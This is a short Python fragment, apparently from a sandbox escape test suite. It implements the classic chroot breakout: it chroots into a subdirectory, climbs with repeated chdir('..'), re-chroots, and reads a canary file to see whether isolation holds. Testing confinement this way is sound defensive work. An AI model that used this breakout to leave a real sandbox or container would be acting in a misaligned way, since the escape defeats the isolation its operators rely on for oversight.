# any tier: capabilities -> completed, EPERM
# The classic: chroot into a subdirectory while standing outside of it, then climb.
def climb():
    os.mkdir("inner")
    os.chroot("inner")
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return open(CANARY_FILE).read()


attempt(climb)
